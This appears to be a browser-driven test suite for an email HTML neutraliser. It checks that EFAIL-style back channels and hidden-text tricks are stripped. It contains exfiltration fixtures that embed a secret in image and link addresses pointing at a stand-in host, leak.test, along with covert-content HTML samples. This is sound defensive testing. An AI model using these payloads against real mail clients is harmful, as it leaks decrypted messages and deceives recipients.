/**
 * The back channels of EFAIL, in a real browser that would follow every one of them: as they are they call
 * out, neutralised they do not. (In Thunderbird itself: test/e2e/thunderbird/display-opened.test.ts.)
 */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { setTimeout as delay } from "node:timers/promises";
import { fileURLToPath } from "node:url";
import { build } from "esbuild";
import puppeteer, { type Browser, type Page } from "puppeteer-core";
import { backChannels } from "../../helpers/back-channels.js";

const root = fileURLToPath(new URL("../../../", import.meta.url));
const channels = backChannels((name) => `http://leak.test/${name}`);
let browser: Browser;
let code: string;

before(async () => {
  const bundle = await build({
    entryPoints: [`${root}src/background/mail/neutral-html.ts`],
    bundle: true,
    write: false,
    format: "iife",
    globalName: "neutral",
  });
  code = bundle.outputFiles[0]!.text;
  browser = await puppeteer.launch({ executablePath: "/usr/bin/chromium", args: ["--no-sandbox"] });
});
after(() => browser.close());

/** A browser with a hundred pages at once is a browser that stands still. */
async function inBatches<Item, Result>(
  items: readonly Item[],
  work: (item: Item) => Promise<Result>,
): Promise<readonly Result[]> {
  const results: Result[] = [];
  for (let at = 0; at < items.length; at += 12)
    results.push(...(await Promise.all(items.slice(at, at + 12).map(work))));
  return results;
}

async function neutralised(html: string): Promise<string> {
  const page = await browser.newPage();
  const cleaned = await page.evaluate(`${code}; neutral.neutralHtml(${JSON.stringify(html)})`);
  await page.close();
  return cleaned as string;
}

/** What the page asks for beyond itself. */
async function requestsOf(html: string, patience = 100): Promise<readonly string[]> {
  const page: Page = await browser.newPage();
  const asked: string[] = [];
  await page.setRequestInterception(true);
  page.on("request", (request) => {
    const own = request.url() === "http://mail.test/";
    if (!own && !request.url().startsWith("data:")) asked.push(request.url());
    void request.respond(own ? { contentType: "text/html", body: html } : { status: 404, body: "" });
  });
  await page.goto("http://mail.test/", { waitUntil: "domcontentloaded" });
  // Refreshes, fonts and media begin after that.
  await delay(patience);
  await page.close();
  return asked.filter((url) => !url.endsWith("/favicon.ico"));
}

/** Followed by other readers than this browser, or by old ones: nothing to see here even untouched. */
const quietHere = [
  "img-unclosed",
  "track",
  "audio",
  "video",
  "source",
  "meta-link",
  "noscript",
  "noscript-breakout",
  "textarea-breakout",
  "svg-use",
  "style-escape",
  "math-style",
  ...`link-dns-prefetch link-preconnect link-prerender link-apple-touch-icon link-mask-icon link-pingback link-next
    link-search link-import link-subresource speculation meta-csp meta-refresh-blank manifest doctype
    xml-stylesheet form-action isindex a-ping applet bgsound layer lowsrc cite fencedframe xss-mutation
    style-filter     style-backdrop style-offset-path style-behavior style-expression`.split(/\s+/),
];

test("as it came, nearly every back channel calls out: the net below catches something", async () => {
  const all = await inBatches(
    [...channels],
    async ([name, html]) => [name, await requestsOf(html, 2000)] as const,
  );
  const silent = all.filter(([, asked]) => asked.length === 0).map(([name]) => name);
  assert.deepEqual(
    silent.filter((name) => !quietHere.includes(name)),
    [],
  );
});

for (const [name, html] of channels) {
  test(`neutral HTML names nobody to call: ${name} (EFAIL; RFC 8551 §6)`, async () => {
    const cleaned = await neutralised(html);
    assert.equal(cleaned.includes("leak.test"), false, cleaned);
  });
}

test("neutral HTML calls nobody, each channel by itself", async () => {
  const all = await inBatches([...channels.values()], async (html) => requestsOf(await neutralised(html)));
  assert.deepEqual(all.flat(), []);
});

test("all of them together, around a secret, call nobody", async () => {
  const cleaned = await neutralised([...channels.values()].join("<p>SECRET</p>"));
  assert.deepEqual(await requestsOf(cleaned), []);
});

test("a secret inside an image's address does not leave, and neither does one inside a link's", async () => {
  const image = await neutralised('<img src="http://leak.test/SECRET text">');
  const link = await neutralised('<a href="http://leak.test/?SECRET\ntext">click</a>');
  assert.equal(image.includes("leak.test"), false);
  assert.equal(link.includes("leak.test"), false);
  assert.match(link, /<a>click<\/a>/);
});

test("leaves what a letter needs: words, headings, lists, tables, and the words of its links", async () => {
  const cleaned = await neutralised(
    `<body dir="ltr"><h1>Grüße</h1><p align="center">one <b>two</b></p><ul><li>three</ul>
     <table><tr><td colspan="2">four</td></tr></table><a href="https://example.test/">https://example.test/</a>`,
  );
  for (const kept of [
    '<body dir="ltr"><h1>Grüße</h1>',
    '<p align="center">one <b>two</b></p>',
    "<li>three</li>",
    '<td colspan="2">four</td>',
    "<a>https://example.test/</a>",
  ])
    assert.ok(cleaned.includes(kept), `${kept} in ${cleaned}`);
});

const secret = "under the third stone";
/** Text that nobody sees, and that a reply would quote. */
const covert: Readonly<Record<string, string>> = {
  "by a style sheet": `<style>.h{font-size:0;color:#fff}</style><p>Lunch?</p><div class=h>${secret}</div>`,
  "by an attribute": `<p style="display:none">${secret}</p>`,
  "by colour and size": `<body bgcolor=white text=white><font color="#fff" size=1>${secret}</font>`,
  "by being hidden": `<p hidden>${secret}</p>`,
  "by parentheses of ruby": `<ruby>a<rp>${secret}</rp></ruby>`,
  "by being folded": `<details><summary>Lunch?</summary>${secret}</details>`,
  "by smaller and smaller": `${"<h6><div><sub><small>".repeat(30)}${secret}`,
};
for (const [how, html] of Object.entries(covert)) {
  test(`hides no text ${how}: what a reply quotes can be seen ("covert content" of the EFAIL family)`, async () => {
    const page = await browser.newPage();
    await page.setContent(await neutralised(html));
    const seen = (await page.evaluate(
      `(() => { const walker = document.createTreeWalker(document.body, 4);
         for (let node = walker.nextNode(); node; node = walker.nextNode()) if (node.data.includes("third stone")) {
           const style = getComputedStyle(node.parentElement);
           const range = document.createRange();
           range.selectNode(node);
           return [parseFloat(style.fontSize) >= 12, style.color, range.getBoundingClientRect().height >= 10];
         } return []; })()`,
    )) as readonly unknown[];
    await page.close();
    assert.deepEqual(seen, [true, "rgb(0, 0, 0)", true]);
  });
}

test("no attribute carries a swallowed piece of the message", async () => {
  for (const html of [
    `<img src="data:image/png;base64,${secret}">`,
    `<img alt="${secret}" src="cid:x">`,
    `<td abbr="${secret}" title="${secret}">x</td>`,
    `<a href="mailto:a@example.test?${secret}">x</a>`,
    `<p align="${secret}" dir="${secret}">x</p>`,
  ])
    assert.equal((await neutralised(html)).includes("third"), false, html);
});

test("nesting ten thousand deep neither overflows nor hangs", async () => {
  const cleaned = await neutralised(`${"<x>".repeat(10_000)}<img src=http://leak.test/deep>end`);
  assert.equal(cleaned.includes("leak.test"), false);
  assert.ok(cleaned.includes("end"));
});
